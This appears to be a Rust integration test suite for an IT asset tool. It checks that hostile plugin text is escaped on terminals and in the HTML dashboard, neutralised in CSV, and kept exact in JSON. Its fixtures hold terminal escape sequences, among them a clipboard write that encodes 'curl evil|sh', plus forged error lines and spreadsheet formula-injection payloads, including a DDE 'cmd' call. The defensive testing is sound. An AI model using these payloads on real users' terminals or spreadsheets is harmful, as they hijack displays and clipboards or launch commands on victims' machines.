//! Hostile text (the `evil-text` fixture plugin): terminal control sequences, bidi overrides
//! and forged `error:` lines never reach a human-readable output raw, CSV neutralises formulas
//! (unless `--raw`), and JSON keeps every string exactly as the plugin sent it.

use crate::common::{assert_success, itam, stderr, write_private};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

// The strings `tests/hostile/evil-text` builds, byte for byte.
const TERMINAL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}";
const CONTROLS: &str = "\u{1b}[31m\0\u{b}\u{8}\r\u{9b}2J\u{202e}";
const FORGED: &str = "\nerror: forged";

fn evil(what: &str) -> String {
    format!("{what}{TERMINAL}{CONTROLS}{FORGED} {what}")
}

/// `TERMINAL` as the terminal output shows it.
const SHOWN_TERMINAL: &str = r"\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}";

/// `evil(what)` as the terminal output shows it.
fn shown(what: &str) -> String {
    format!(
        r"{what}{SHOWN_TERMINAL}\u{{1b}}[31m\u{{0}}\u{{b}}\u{{8}}\u{{d}}\u{{9b}}2J\u{{202e}}\u{{a}}error: forged {what}"
    )
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example\",\"click\")";
const SKU_FORMULA: &str = "00000000-0000-0000-0000-0000000e7701";
const SKU_CONTROLS: &str = "00000000-0000-0000-0000-0000000e7702";

/// A scratch directory with a config whose only source runs `evil-text` in `mode`, with a
/// price for the product whose part number is hostile.
fn setup(mode: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("itam.toml");
    write_private(
        &config,
        &format!(
            "[store]\npath = \"itam.db\"\n\n[[source]]\nname = \"evil\"\nplugin = \"{}\"\n\n\
             [source.settings]\nurl = \"http://127.0.0.1:9\"\nmode = \"{mode}\"\n\n\
             [[price]]\nproduct = \"{SKU_CONTROLS}\"\nmonthly = 10.0\ncurrency = \"USD\"\n",
            hostile_build::EVIL_TEXT
        ),
    );
    (dir, config)
}

/// Asserts that `bytes`, shown to a person, carry no control character but newlines, no bidi
/// override, isolate or mark, and no line that starts with the forged `error:`, even indented.
fn assert_clean(what: &str, bytes: &[u8]) -> String {
    let text = assert_no_controls(what, bytes);
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("error: forged"),
            "{what}: forged line {line:?} in\n{text}"
        );
    }
    text
}

/// The control and bidi part of [`assert_clean`], and no line at the margin that starts with
/// the forged `error:`.
fn assert_no_controls(what: &str, bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec()).unwrap_or_else(|e| panic!("{what}: {e}"));
    for c in text.chars() {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}');
        assert!(
            c == '\n' || !(c.is_control() || bidi),
            "{what}: raw {c:?} in\n{text}"
        );
    }
    for line in text.lines() {
        assert!(
            !line.starts_with("error: forged"),
            "{what}: forged line {line:?} in\n{text}"
        );
    }
    text
}

/// Runs `itam --config CONFIG ARGS` with every crate's logs at trace level.
fn traced(config: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_itam"))
        .arg("--config")
        .arg(config)
        .args(args)
        .env("RUST_LOG", "trace")
        .env(
            "ITAM_CACHE_DIR",
            concat!(env!("CARGO_TARGET_TMPDIR"), "/itam-cache"),
        )
        .output()
        .expect("the itam binary runs")
}

fn json(config: &Path, args: &[&str]) -> Value {
    let out = itam(config, args);
    assert_success(&out);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The records of a CSV output, header first.
fn csv_records(out: &Output) -> Vec<Vec<String>> {
    assert_success(out);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(out.stdout.as_slice())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The cell of `column` in the record whose `key` column is `value`.
fn cell<'a>(records: &'a [Vec<String>], key: &str, value: &str, column: &str) -> &'a str {
    let at = |name: &str| {
        records[0]
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {:?}", records[0]))
    };
    let (k, c) = (at(key), at(column));
    let row = records[1..]
        .iter()
        .find(|r| r[k] == value)
        .unwrap_or_else(|| panic!("no row with {key} = {value:?}"));
    &row[c]
}

/// No cell a spreadsheet would evaluate: every cell starting with = + - @ TAB or CR is a number.
fn assert_neutralised(what: &str, records: &[Vec<String>]) {
    for record in records {
        for c in record {
            if c.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(c.parse::<f64>().is_ok(), "{what}: formula cell {c:?}");
            }
        }
    }
}

#[test]
fn hostile_text_is_escaped_on_the_terminal_neutralised_in_csv_and_exact_in_json() {
    let (_dir, config) = setup("succeed");

    // sync: counts, warnings and the plugin's log line.
    let out = itam(&config, &["sync"]);
    assert_success(&out);
    let stdout = assert_clean("sync stdout", &out.stdout);
    let err = assert_clean("sync stderr", &out.stderr);
    assert!(
        stdout.starts_with(&format!(
            "evil: run 1 succeeded: 5 products, 3 accounts, 7 assignments, 1 subscriptions, 1 {}\n",
            shown("count")
        )),
        "{stdout}"
    );
    // How the run read, with the plugin's reason for reading in full.
    assert!(
        stdout.contains(&format!("\n  read: full: {}\n", shown("full reason"))),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("\n  warning: {}\n", shown("warning"))),
        "{stdout}"
    );
    assert!(
        stdout.contains("\n  warning: =cmd|' /C calc'!A0\n"),
        "{stdout}"
    );
    assert!(err.contains(" WARN "), "{err}");
    assert!(err.contains(&shown("plugin log")), "{err}");
    assert_eq!(err.lines().count(), 1, "one log event is one line: {err}");

    // The same sync with every log at trace level: the plugin's progress phase is logged too.
    let out = traced(&config, &["sync", "-vvv"]);
    assert_success(&out);
    let err = assert_clean("traced sync stderr", &out.stderr);
    assert!(err.contains("progress"), "{err}");
    assert!(err.contains("phase"), "{err}");

    // Tables.
    for args in [
        &["report", "balance", "--format", "table"][..],
        &["report", "waste", "--format", "table", "--all"],
        &["report", "subscriptions", "--format", "table"],
        &["report", "cost", "--format", "table"],
        &["report", "changes", "--format", "table"],
    ] {
        let out = itam(&config, args);
        assert_success(&out);
        assert_clean(&args.join(" "), &out.stdout);
        assert_clean(&args.join(" "), &out.stderr);
    }
    let balance =
        String::from_utf8(itam(&config, &["report", "balance", "--format", "table"]).stdout)
            .unwrap();
    assert!(balance.contains(&shown("part")), "{balance}");
    // The plugin's own name for a product is untrusted text too.
    assert!(balance.contains(&shown("product name")), "{balance}");
    assert!(balance.contains(&shown("Warning")), "{balance}");
    assert!(
        balance.contains(&format!(
            "! {}: subscription is {}",
            shown("product name"),
            shown("Warning")
        )),
        "{balance}"
    );
    assert!(balance.contains("-3 over"), "{balance}");
    let waste =
        String::from_utf8(itam(&config, &["report", "waste", "--format", "table", "--all"]).stdout)
            .unwrap();
    for expected in [
        format!("  ev-1{SHOWN_TERMINAL}@evil.example  "),
        shown("Zoë 山田"),
        shown("guest"),
        shown("CountViolation"),
        format!("not evaluated: {}", shown("sign-in activity unavailable")),
    ] {
        assert!(waste.contains(&expected), "`{expected}` not in\n{waste}");
    }
    let cost =
        String::from_utf8(itam(&config, &["report", "cost", "--format", "table"]).stdout).unwrap();
    assert!(cost.contains(&shown("department")), "{cost}");
    let subscriptions =
        String::from_utf8(itam(&config, &["report", "subscriptions", "--format", "table"]).stdout)
            .unwrap();
    assert!(
        subscriptions.contains(&shown("Suspended")),
        "{subscriptions}"
    );

    // CSV: formulas neutralised, numbers kept, the rest of the text as it was.
    let accounts = csv_records(&itam(&config, &["export", "accounts", "--format", "csv"]));
    assert_neutralised("export accounts", &accounts);
    assert_eq!(
        cell(&accounts, "id", "ev-1", "department"),
        format!("'{}", "=HYPERLINK(\"http://evil.example\",\"x\")")
    );
    assert_eq!(
        cell(&accounts, "id", "ev-1", "display_name"),
        evil("Zoë 山田")
    );
    assert_eq!(cell(&accounts, "id", "ev-2", "display_name"), "'+1");
    assert_eq!(cell(&accounts, "id", "ev-2", "department"), "'-2");
    assert_eq!(cell(&accounts, "id", "ev-2", "job_title"), "'@SUM(1)");
    assert_eq!(cell(&accounts, "id", "ev-2", "usage_location"), "'\tUS");
    assert_eq!(cell(&accounts, "id", "ev-2", "account_enabled"), "false");
    assert_eq!(
        cell(&accounts, "id", "ev-3", "mail"),
        "'\rmail@evil.example"
    );
    let raw = csv_records(&itam(
        &config,
        &["export", "accounts", "--format", "csv", "--raw"],
    ));
    assert_eq!(
        cell(&raw, "id", "ev-1", "department"),
        "=HYPERLINK(\"http://evil.example\",\"x\")"
    );
    assert_eq!(cell(&raw, "id", "ev-2", "display_name"), "+1");
    assert_eq!(cell(&raw, "id", "ev-2", "department"), "-2");
    assert_eq!(cell(&raw, "id", "ev-2", "job_title"), "@SUM(1)");
    assert_eq!(cell(&raw, "id", "ev-2", "usage_location"), "\tUS");
    assert_eq!(cell(&raw, "id", "ev-3", "mail"), "\rmail@evil.example");

    let products = csv_records(&itam(&config, &["export", "products", "--format", "csv"]));
    assert_neutralised("export products", &products);
    for (sku, part) in [
        (SKU_FORMULA, FORMULA),
        ("00000000-0000-0000-0000-0000000e7703", "+1"),
        ("00000000-0000-0000-0000-0000000e7704", "-2"),
        ("00000000-0000-0000-0000-0000000e7705", "@SUM(1)"),
    ] {
        assert_eq!(
            cell(&products, "sku_id", sku, "sku_part_number"),
            format!("'{part}")
        );
    }
    assert_eq!(
        cell(&products, "sku_id", SKU_FORMULA, "consumed_units"),
        "4"
    );

    let balance = csv_records(&itam(&config, &["report", "balance", "--format", "csv"]));
    assert_neutralised("report balance", &balance);
    assert_eq!(
        cell(&balance, "sku_id", SKU_FORMULA, "sku_part_number"),
        format!("'{FORMULA}")
    );
    assert_eq!(cell(&balance, "sku_id", SKU_FORMULA, "available"), "-3");
    let raw = csv_records(&itam(
        &config,
        &["report", "balance", "--format", "csv", "--raw"],
    ));
    assert_eq!(
        cell(&raw, "sku_id", SKU_FORMULA, "sku_part_number"),
        FORMULA
    );
    assert_eq!(cell(&raw, "sku_id", SKU_FORMULA, "available"), "-3");
    assert_eq!(
        cell(&raw, "sku_id", SKU_CONTROLS, "sku_part_number"),
        evil("part")
    );

    for report in ["waste", "cost", "subscriptions", "changes"] {
        let records = csv_records(&itam(&config, &["report", report, "--format", "csv"]));
        assert_neutralised(report, &records);
    }
    let cost = csv_records(&itam(&config, &["report", "cost", "--format", "csv"]));
    assert!(
        cost.iter()
            .any(|r| r[0] == "department" && r[1] == "'=HYPERLINK(\"http://evil.example\",\"x\")"),
        "{cost:?}"
    );
    assert!(
        cost.iter().any(|r| r[0] == "department" && r[1] == "'-2"),
        "{cost:?}"
    );
    let cost = csv_records(&itam(
        &config,
        &["report", "cost", "--format", "csv", "--raw"],
    ));
    assert!(
        cost.iter().any(|r| r[0] == "department" && r[1] == "-2"),
        "{cost:?}"
    );

    // JSON: exactly what the plugin sent.
    let accounts = json(&config, &["export", "accounts", "--format", "json"]);
    let one = accounts
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "ev-1")
        .unwrap();
    assert_eq!(one["display_name"], evil("Zoë 山田"));
    assert_eq!(one["job_title"], evil("job"));
    assert_eq!(
        one["user_principal_name"],
        format!("ev-1{TERMINAL}@evil.example")
    );
    let balance = json(&config, &["report", "balance", "--format", "json"]);
    let controls = balance
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["sku_id"] == SKU_CONTROLS)
        .unwrap();
    assert_eq!(controls["sku_part_number"], evil("part"));
    assert_eq!(controls["product_name"], evil("product name"));
    assert_eq!(controls["status"], evil("Warning"));
    let runs = json(&config, &["runs"]);
    assert_eq!(
        runs[0]["summary"]["warnings"],
        serde_json::json!([evil("warning"), "=cmd|' /C calc'!A0"])
    );
    let waste = json(&config, &["report", "waste", "--format", "json"]);
    assert!(
        waste
            .to_string()
            .contains(&serde_json::to_string(&evil("guest")).unwrap()),
        "{waste}"
    );
}

#[test]
fn check_findings_from_the_plugin_are_escaped_and_cannot_start_a_line() {
    let (_dir, config) = setup("succeed");
    let out = itam(&config, &["check", "--format", "table"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let text = assert_no_controls("check", &out.stdout);
    assert_clean("check stderr", &out.stderr);
    // Every line of the source's block is indented; the plugin's newlines continue the line
    // they are in, indented further than the steps.
    for line in text.lines().skip(1).filter(|l| !l.is_empty()) {
        assert!(line.starts_with("  "), "{line:?} in\n{text}");
        if line.trim_start().starts_with("error: forged") {
            assert!(line.starts_with("          "), "{line:?} in\n{text}");
        }
    }
    assert!(text.contains(r"token\u{1b}[2J"), "{text}");
    assert!(text.contains(r"check detail\u{1b}[2J"), "{text}");
    assert!(text.contains(r"      fix: check fix\u{1b}[2J"), "{text}");
    assert!(
        text.contains(r"      without it: without\u{1b}[2J"),
        "{text}"
    );

    // JSON keeps the findings as the plugin sent them.
    let out = itam(&config, &["check", "--format", "json"]);
    assert_eq!(out.status.code(), Some(3));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let steps = doc[0]["steps"].as_array().unwrap();
    let token = steps.iter().find(|s| s["step"] == evil("token")).unwrap();
    assert_eq!(token["detail"], evil("check detail"));
    assert_eq!(token["fix"], evil("check fix"));
}

#[test]
fn a_plugins_error_text_is_escaped_and_cannot_forge_error_lines() {
    let (_dir, config) = setup("fail");
    let out = itam(&config, &["sync"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = assert_clean("failed sync stderr", &out.stderr);
    let errors: Vec<&str> = err.lines().filter(|l| l.starts_with("error:")).collect();
    assert_eq!(
        errors,
        [
            "error: source `evil` (evil-text 0.0.0): sync failed, nothing stored (no earlier successful sync)"
        ],
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "\n  upstream error: {} [code {}, HTTP 503, request-id {}, at ",
            shown("upstream message"),
            shown("code"),
            shown("request")
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("\n  fix: {}\n", shown("upstream fix"))),
        "{err}"
    );
    // The run's recorded error is the text that was printed.
    let runs = json(&config, &["runs"]);
    assert_eq!(runs[0]["status"], "failed");
    let error = runs[0]["error"].as_str().unwrap();
    assert!(error.contains(&shown("upstream message")), "{error}");
    assert!(!error.contains('\u{1b}'), "{error}");

    // A plan the plugin refuses: a configuration error, escaped the same way.
    let (_dir, config) = setup("bad-plan");
    let out = itam(&config, &["sync"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = assert_clean("bad plan stderr", &out.stderr);
    assert_eq!(
        err.lines().filter(|l| l.starts_with("error:")).count(),
        1,
        "{err}"
    );
    assert!(
        err.starts_with(&format!(
            "error: source `evil`: invalid configuration: {} [code {}, at ",
            shown("plan refused"),
            shown("plan code")
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("\n  fix: {}\n", shown("plan fix"))),
        "{err}"
    );
    let out = itam(&config, &["check", "--format", "table"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let text = assert_clean("bad plan check", &out.stdout);
    assert!(text.contains(&shown("plan refused")), "{text}");
}

#[test]
fn hostile_text_is_escaped_in_the_dashboard() {
    let (_dir, config) = setup("succeed");
    let text = std::fs::read_to_string(&config).unwrap().replacen(
        "name = \"evil\"\n",
        "name = \"evil\"\nschedule = \"1h\"\n",
        1,
    );
    write_private(
        &config,
        &format!("{text}\n[serve]\nlisten = \"127.0.0.1:0\"\n"),
    );
    let service = crate::serve::Service::start(&config, &[], &[]);
    service.until(
        std::time::Duration::from_secs(60),
        "a successful run",
        |s| s.runs("evil").iter().any(|r| r["status"] == "succeeded"),
    );
    for path in [
        "/".to_string(),
        "/runs".to_string(),
        format!("/sources/evil/products/{SKU_FORMULA}"),
        format!("/sources/evil/products/{SKU_CONTROLS}"),
    ] {
        let (status, body) = service.get(&path);
        assert_eq!(status, 200, "{path}: {body}");
        let html = assert_no_controls(&path, body.as_bytes());
        for c in ['\u{9}', '\u{d}'] {
            assert!(!html.contains(c), "{path}: raw {c:?}");
        }
        assert!(!html.contains(FORMULA), "{path}: unescaped quotes");
    }
    let (_, page) = service.get(&format!("/sources/evil/products/{SKU_FORMULA}"));
    assert!(
        page.contains("=HYPERLINK(&quot;http://evil.example&quot;,&quot;click&quot;)"),
        "{page}"
    );
    // The terminal sequences are there, made visible.
    let (_, page) = service.get(&format!("/sources/evil/products/{SKU_CONTROLS}"));
    assert!(page.contains(SHOWN_TERMINAL), "{page}");
}
